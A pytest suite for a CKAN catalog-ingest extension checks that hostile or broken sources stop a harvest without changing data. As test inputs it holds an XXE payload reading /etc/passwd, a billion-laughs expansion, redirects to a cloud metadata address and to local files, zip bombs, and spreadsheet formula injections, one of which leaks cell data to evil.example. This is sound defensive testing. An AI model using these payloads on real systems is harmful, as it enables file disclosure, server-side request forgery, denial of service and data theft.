"""Sources that lie, break, dawdle or attack: a run stops with a reason and nothing changed, or goes
on with what can be read. Through the command's own `run_source` and real servers on loopback.
"""

from __future__ import annotations

import json
import socket
import time
import zipfile
from collections.abc import Callable
from typing import Any

import ckan.plugins.toolkit as tk
import openpyxl
import pytest
import yaml
from ckan import model
from ckan.tests import factories
from ckan.tests.helpers import call_action

from ckanext.hljshare.ingest import cli, engine, reasons, sources
from tests.sources import dcat, entries, oportal, pinyin, xml_catalog
from tests.sources.server import Reply, certificate, drip, serve

from .test_json_sources import MAPPINGS

COUNTS = ("created", "updated", "unchanged", "held", "withdrawn", "rejected", "stopped")
PINYIN = yaml.safe_load((MAPPINGS / "pinyin.yaml").read_text(encoding="utf-8"))


@pytest.fixture(autouse=True)
def _clean(clean_db, clean_index, monkeypatch):
    """Give each test an empty portal; what is typed on its command line may be this machine."""
    monkeypatch.setitem(tk.config, "hljshare.ingest.allowed_networks", "")
    factories.Organization(
        name="harbin",
        title="哈尔滨市",
        level="city",
        region_code="230100",
        contact_phone="0451-12345",
    )


@pytest.fixture
def run(tmp_path):
    """Return a function that runs a server as the source `demo`; a mapping is plain data."""

    def run(kind: str, url: str, mapping: Any = None) -> dict[str, Any]:
        path = None
        if mapping is not None:
            path = str(tmp_path / "mapping.yaml")
            words = mapping if isinstance(mapping, str) else yaml.safe_dump(mapping)
            (tmp_path / "mapping.yaml").write_text(words, encoding="utf-8")
        with cli._harvest_paths_allowed():
            told = cli.run_source("demo", kind, url, "harbin", path, False, engine.silent)
        return {each: told[each] for each in COUNTS if told[each]}

    return run


def listed(count: int = 6) -> list[entries.Entry]:
    made = entries.entries(count, "307/")
    for entry in made:
        entry.open = "open"
    return made


def pinyin_with(**network: Any) -> dict[str, Any]:
    return {**PINYIN, "network": network} if network else PINYIN


def last_run() -> dict[str, Any]:
    found = call_action("hljshare_ingest_run_list", source_id=sources.find("demo").id)["results"]
    return call_action("hljshare_ingest_run_show", id=found[0]["id"])


def state() -> list[tuple[Any, ...]]:
    model.Session.expire_all()
    query = model.Session.query(model.Package).filter_by(type="dataset").order_by("id")
    return [
        (each.title, each.state, each.private, each.metadata_modified, dict(each.extras))
        for each in query
    ]


def ten_gigabytes(head: bytes, piece: bytes) -> Reply:
    """An answer that is sent until the other side has had enough."""

    def raw(connection: socket.socket) -> None:
        connection.sendall(head)
        for _ in range(10 * 1024**3 // len(piece)):
            connection.sendall(piece)

    return Reply(raw=raw)


MIB = b" " * 1024 * 1024
HEAD = b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n"
PAGE = b"<html><body><form><input type=password name=p></form></body></html>"
XXE = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
LAUGHS = b'<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><l>&b;</l>'


def _rows(total: Any, ids: list[str], repeat: int = 1) -> Callable[[Any], Any]:
    made = [pinyin.row(entry) for entry in listed(len(ids))]
    rows = [{**row, "mlbh": name} for row, name in zip(made, ids, strict=True)]
    return lambda _request: {"code": "200", "data": {"total": total, "rows": rows * repeat}}


ANSWERS: dict[str, tuple[Any, str]] = {
    "a login page": (Reply(PAGE), "login-page"),
    "a redirect to a login page": ("login", "login-page"),
    "an error page with 200": (Reply("<html>系统维护中</html>".encode()), "not-a-catalog: HTML"),
    "an error in JSON with 200": ({"code": "500", "message": "系统异常"}, "source-error"),
    "success and nothing": ({"code": "200"}, "not-a-catalog"),
    "no rows": ({"code": "200", "data": {"total": 0, "rows": []}}, "empty-list"),
    "rows that are null": ({"code": "200", "data": {"total": 6, "rows": None}}, "empty-list"),
    "an empty body": (Reply(b""), "not-a-catalog"),
    "half a body": (Reply(b'{"code":"200","data":{"rows":[{"mlbh":"1","ml'), "not-a-catalog"),
    "a total that disagrees": (_rows(600, ["a", "b", "c", "d", "e", "f"]), "total-disagrees"),
    "one id again and again": (_rows(6, ["a"] * 6), "shrink: 6 / 6"),
    "ids that are no ids": (_rows(3, ["a", "a", "b", "b", "c", "c"]), "duplicate-ids: 3 / 3"),
    "502": (Reply(b"", 502), "unreachable: HTTP 502"),
    "404": (None, "unreachable: HTTP 404"),
    "a body that breaks off": (
        Reply(raw=lambda con: con.sendall(HEAD + b"Content-Length: 999\r\n\r\n{")),
        "unreachable",
    ),
    "no HTTP": (Reply(raw=lambda con: con.sendall(b"SSH-2.0-OpenSSH\r\n")), "unreachable"),
    "2 GB, announced": (
        Reply(raw=lambda con: con.sendall(HEAD + b"Content-Length: 2147483648\r\n\r\n")),
        "unreachable: too large",
    ),
    "10 GB, not announced": (ten_gigabytes(HEAD + b"\r\n", MIB), "unreachable: too large"),
    "10 GB in chunks": (
        ten_gigabytes(HEAD + b"Transfer-Encoding: chunked\r\n\r\n", b"100000\r\n" + MIB + b"\r\n"),
        "unreachable: too large",
    ),
    "nested lists": (Reply(b"[" * 100_000), "not-a-catalog: nested too deep"),
    "a number without end": (Reply(b'{"code":' + b"9" * 100_000 + b"}"), "not-a-catalog"),
    "a redirect to metadata": (
        Reply(b"", 302, {"Location": "http://169.254.169.254/latest/meta-data/"}),
        "address-refused",
    ),
    "a redirect to this machine": ("elsewhere", "address-refused"),
    "a redirect to a name of this machine": (
        Reply(b"", 307, {"Location": "http://localhost:1/x"}),
        "address-refused",
    ),
    "a redirect to a file": (
        Reply(b"", 302, {"Location": "file:///etc/passwd"}),
        "address-refused",
    ),
    "redirects without end": (Reply(b"", 302, {"Location": "?again"}), "unreachable: too many"),
    "XML": (Reply(XXE), "not-a-catalog"),
    "slow headers": (drip(b"HTTP/1.1 200 OK\r\nX-A: ", b"a", 0.2), "unreachable"),
    "a slow body": (drip(HEAD + b"Content-Length: 99999\r\n\r\n", b" ", 0.2), "unreachable"),
    "silence": (Reply(raw=lambda con: time.sleep(8)), "unreachable"),
}


@pytest.mark.parametrize("what", ANSWERS)
def test_an_answer_that_is_no_catalog_stops_the_run_and_changes_nothing(what, run, monkeypatch):
    monkeypatch.setitem(tk.config, "hljshare.ingest.max_file_size", "20")
    answer, reason = ANSWERS[what]
    portal = pinyin.portal(listed())
    broken = False

    def serving(request: Any) -> Any:
        if not broken:
            return portal(request)
        if answer == "elsewhere":
            return Reply(b"", 302, {"Location": other.url + "/x"})
        if answer == "login":
            signed = request.path == "/login"
            return Reply(PAGE) if signed else Reply(b"", 302, {"Location": "/login"})
        return answer(request) if callable(answer) else answer

    mapping = pinyin_with(read_timeout=2, max_seconds=4)
    with serve(serving) as site, serve(portal) as other:
        assert run("json_api", site.url + pinyin.BASE, mapping) == {"created": 6}
        before, broken = state(), True
        began = time.monotonic()
        told = run("json_api", site.url + pinyin.BASE, mapping)
        assert time.monotonic() - began < 30
        assert list(told) == ["stopped"], told
        assert told["stopped"].startswith(reason), told
        assert state() == before
        assert other.asked == []
        shown = last_run()
        assert shown["stopped"] == told["stopped"]
        assert shown["stopped_text"] not in ("", told["stopped"])
        assert shown["stopped_advice"]
        broken = False
        assert run("json_api", site.url + pinyin.BASE, mapping) == {"unchanged": 6}


def test_more_than_a_fifth_gone_stops_and_one_gone_is_withdrawn(run):
    everything = listed(10)
    portal = {"rows": everything}
    with serve(lambda request: pinyin.portal(portal["rows"])(request)) as site:
        url = site.url + pinyin.BASE
        assert run("json_api", url, PINYIN) == {"created": 10}
        portal["rows"] = everything[:7]
        assert run("json_api", url, PINYIN)["stopped"] == "shrink: 3 / 10"
        portal["rows"] = everything[:9]
        assert run("json_api", url, PINYIN) == {"unchanged": 9, "withdrawn": 1}
        everything[0].notes += "，已修订"
        portal["rows"] = everything
        assert run("json_api", url, PINYIN) == {"updated": 2, "unchanged": 8}


@pytest.mark.parametrize(
    ("body", "said"),
    [
        (lambda text: text.encode("gb18030"), "text/json; charset=utf-8"),
        (lambda text: text.encode("utf-8"), "application/json; charset=gb2312"),
        (lambda text: b"\xef\xbb\xbf" + text.encode(), "text/plain; charset=iso-8859-1"),
        (lambda text: text.encode("utf-16"), "application/octet-stream"),
        (lambda text: json.dumps(text).encode(), "text/html"),
        (lambda text: json.dumps(json.dumps(text, ensure_ascii=False)).encode(), ""),
        (lambda text: f"/**/cb_1({text});".encode(), "text/javascript"),
    ],
)
def test_wrappings_and_wrong_labels_are_seen_through(body, said, run):
    portal = pinyin.portal(listed(12))

    def wrapped(request: Any) -> Any:
        answer = portal(request)
        if not isinstance(answer, dict):
            return answer
        return Reply(body(json.dumps(answer, ensure_ascii=False)), headers={"Content-Type": said})

    with serve(wrapped) as site:
        assert run("json_api", site.url + pinyin.BASE, PINYIN) == {"created": 12}
    titles = {item["title"] for item in call_action("package_search", q="*:*")["results"]}
    assert titles <= {entry.title for entry in listed(12)}


@pytest.mark.parametrize("around", ["try{{cb({})}}catch(e){{}}", "{}\n<!-- 3ms -->", "var a={};b"])
def test_what_is_wrapped_in_a_way_nobody_knows_is_refused_whole(around, run):
    portal = pinyin.portal(listed())

    def wrapped(request: Any) -> Any:
        answer = portal(request)
        return around.format(json.dumps(answer)).encode() if isinstance(answer, dict) else answer

    with serve(wrapped) as site:
        told = run("json_api", site.url + pinyin.BASE, PINYIN)
    assert told == {"stopped": "not-a-catalog: no JSON"}
    assert state() == []


@pytest.mark.parametrize("single", ["row", "files", "items", "tags"])
def test_one_of_something_may_come_without_its_list(single, run):
    portal = pinyin.portal(listed(1))
    listed_one = listed(1)
    listed_one[0].files = ("站点.html",)
    portal = pinyin.portal(listed_one)

    def bare(request: Any) -> Any:
        answer = portal(request)
        if isinstance(answer, dict):
            data = answer["data"]
            if single == "row" and data.get("rows"):
                data["rows"] = data["rows"][0]
            if single == "tags" and data.get("rows"):
                data["rows"][0]["mlbqmcList"] = "公交"
            if single == "files" and "fjList" in data:
                data["fjList"] = data["fjList"][0]
            if single == "items" and "xxxList" in data:
                data["xxxList"] = data["xxxList"][0]
        return answer

    with serve(bare) as site:
        assert run("json_api", site.url + pinyin.BASE, PINYIN) == {"created": 1}
    (found,) = call_action("package_search", q="*:*")["results"]
    assert [item["name"] for item in found["resources"]] == ["站点.html"]
    assert found["items"][0]["name"] == "线路名称"
    assert "公交" in [tag["name"] for tag in found["tags"]]


DATES = {
    "0000-00-00": (None, "date-unreadable: 0000-00-00"),
    "0000-00-00 00:00:00": (None, "date-unreadable: 0000-00-00 00:00:00"),
    "1970-01-01": (None, "date-placeholder: 1970-01-01"),
    "0": (None, "date-placeholder: 1970-01-01"),
    "9999-12-31": (None, "date-in-future: 9999-12-31"),
    "31/12/2023": (None, "date-unreadable: 31/12/2023"),
    "2023-02-30": (None, "date-unreadable: 2023-02-30"),
    "99999999999999999999": (None, "date-unreadable: 99999999999999999999"),
    "1685577600000": ("2023-06-01", None),
    "1685577600": ("2023-06-01", None),
    "2023年6月1日": ("2023-06-01", None),
    "２０２３－０６－０１": ("2023-06-01", None),
    "20230601101010": ("2023-06-01", None),
    "2023-06-01T00:00:00.000+08:00": ("2023-06-01", None),
    "2023.6.1": ("2023-06-01", None),
    "Thu Jun 01 08:00:00 CST 2023": (None, "date-unreadable: Thu Jun 01 08:00:00 CST 2023"),
}


def test_dates_are_read_or_named_and_refuse_nothing(run):
    made = listed(len(DATES))
    for entry, date in zip(made, DATES, strict=True):
        entry.more = {"fbrq": date, "gxrq": ""}
    with serve(pinyin.portal(made)) as site:
        assert run("json_api", site.url + pinyin.BASE, PINYIN) == {"created": len(DATES)}
    lines = {line["native_id"]: line for line in last_run()["entries"]}
    for entry, (date, (day, why)) in zip(made, DATES.items(), strict=True):
        shown = call_action("package_show", id=lines[entry.id]["package_id"])
        assert (shown.get("released") or None) == day, date
        told = [each for each in lines[entry.id]["reasons"] if each.startswith("date-")]
        assert told == ([why] if why else []), date
        assert all(reasons.describe(each) != each for each in told)


def test_a_certificate_counts_by_its_pin_for_its_own_source_only(run, tmp_path):
    mine, expired = certificate(tmp_path), certificate(tmp_path, days=-1)
    other_name = certificate(tmp_path, "data.example.cn")
    portal = pinyin.portal(listed())
    for made, why in (
        (mine, "certificate-refused: self-signed"),
        (expired, "certificate-refused"),
        (other_name, "certificate-refused"),
    ):
        with serve(portal, tls=made) as site:
            url = site.url + pinyin.BASE
            assert run("json_api", url, PINYIN)["stopped"].startswith(why)
            wrong = pinyin_with(sha256=["0" * 64])
            told = run("json_api", url, wrong)["stopped"]
            assert told == "certificate-refused: other fingerprint"
            assert site.asked == []
    assert state() == []
    with serve(portal, tls=mine) as site, serve(portal, tls=expired) as second:
        pinned = pinyin_with(sha256=[mine.sha256])
        assert run("json_api", site.url + pinyin.BASE, pinned) == {"created": 6}
        told = run("json_api", second.url + pinyin.BASE, pinned)
        assert told["stopped"].startswith("certificate-refused")


@pytest.mark.parametrize("body", [XXE, LAUGHS, b"\xff\xfe" + XXE.decode().encode("utf-16-le")])
@pytest.mark.parametrize("kind", ["xml_feed", "dcat_feed"])
def test_document_types_are_refused_and_nothing_is_fetched(kind, body, run):
    good = xml_catalog.Service(["1", "2"]) if kind == "xml_feed" else dcat.Feed(["1", "2"])
    mapping = xml_catalog.MAPPING if kind == "xml_feed" else None
    answer: dict[str, Any] = {}
    headers = {"Content-Type": "application/rdf+xml"}
    with serve(lambda request: answer.get("it") or good(request)) as site:
        assert run(kind, site.url + "/x", mapping) == {"created": 2}
        before, answer["it"] = state(), Reply(body, headers=headers)
        told = run(kind, site.url + "/x", mapping)
        assert told["stopped"].startswith("not-a-catalog"), told
        assert state() == before
        assert len(site.asked) < 12
    assert "root:" not in json.dumps(last_run())


def a_book(path: Any, extra: Callable[[Any], None] | None = None) -> Any:
    book = openpyxl.Workbook()
    book.active.append(["信息资源名称", "提供方", "摘要", "开放类型", "更新周期", "信息项名称"])
    for number in range(4):
        row = [
            f"公交线路信息{number}",
            "交通运输局",
            "起点和终点",
            "无条件开放",
            "每月",
            "线路名称",
        ]
        book.active.append(row)
    if extra:
        extra(book.active)
    book.save(path)
    return path


def bomb(path: Any, part: str, chunk: bytes, times: int) -> None:
    """Put a part into a workbook that inflates to chunk times so many."""
    with zipfile.ZipFile(path) as old:
        parts = {name: old.read(name) for name in old.namelist()}
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as new:
        for name, data in parts.items():
            if name != part:
                new.writestr(name, data)
        with new.open(part, "w", force_zip64=True) as target:
            head, _, tail = parts.get(part, b"<x>|</x>").partition(b"</sheetData>")
            target.write(head)
            for _ in range(times):
                target.write(chunk)
            target.write(b"</sheetData>" + tail)


@pytest.mark.parametrize(
    ("part", "chunk"),
    [
        ("xl/worksheets/sheet1.xml", b" " * 2**20),
        ("xl/worksheets/sheet1.xml", b"<row><c/><c/></row>" * 50_000),
        ("xl/media/image1.png", b"\0" * 2**20),
        ("docProps/app.xml", b"<a/>" * 2**18),
    ],
)
def test_a_workbook_that_inflates_without_end_is_refused(part, chunk, run, tmp_path):
    path = a_book(tmp_path / "list.xlsx")
    assert run("catalog_sheet", str(path)) == {"created": 4}
    before = state()
    bomb(path, part, chunk, 600)
    began = time.monotonic()
    told = run("catalog_sheet", str(path))
    assert time.monotonic() - began < 60
    assert told == {"unchanged": 4} or told["stopped"].startswith("not-a-catalog"), told
    assert state() == before


def test_formulas_are_neither_run_nor_passed_on(run, tmp_path):
    def formulas(sheet: Any) -> None:
        call = '=HYPERLINK("http://evil.example/?"&A1,"点")'
        sheet.append([call, "交通运输局", "=1+1", "无条件开放", "每月", "=cmd|'/c calc'!A0"])
        sheet.append(["+1+1线路", "@SUM(A1)", "-2+3说明文字", "=A1", "每月", "线路名称"])

    told = run("catalog_sheet", str(a_book(tmp_path / "list.xlsx", formulas)))
    assert sum(told.values()) == 6
    assert told["created"] >= 4
    for each in state():
        assert "HYPERLINK" not in json.dumps(each[4], ensure_ascii=False, default=str)


def test_pages_of_an_oportal_that_repeat_and_a_total_with_commas(run):
    ids = [str(number) for number in range(1, 26)]
    portal = oportal.Portal(ids, size=10, repeats=True)
    with serve(portal) as site:
        assert run("oportal", site.url + "/oportal", None) == {"created": 25}
        portal.total = "1,025"
        told = run("oportal", site.url + "/oportal", None)
        assert told["stopped"] == "total-disagrees: 25 / 1025"
        portal.total = None
        portal.broken = {"3"}  # one dataset's page is a login page
        assert run("oportal", site.url + "/oportal", None) == {"unchanged": 25}
        portal.broken, portal.lists_fail_after = set(), 1
        assert run("oportal", site.url + "/oportal", None)["stopped"].startswith("login-page")


def test_a_file_of_the_list_may_not_lead_into_the_house(run):
    """A source typed on the command line may be this machine; what it refers to may not."""
    with serve(lambda request: Reply(b"secret")) as inside:
        made = listed(2)
        made[0].files = ("线路.csv",)

        def portal(request: Any) -> Any:
            if request.path.endswith("download"):
                return Reply(b"", 302, {"Location": inside.url + "/secret.csv"})
            return pinyin.portal(made)(request)

        with serve(portal) as site:
            assert run("json_api", site.url + pinyin.BASE, PINYIN) == {"created": 2}
        assert inside.asked == []
    lines = {line["native_id"]: line["reasons"] for line in last_run()["entries"]}
    assert "file-unreachable: private network" in lines["307/000000"]
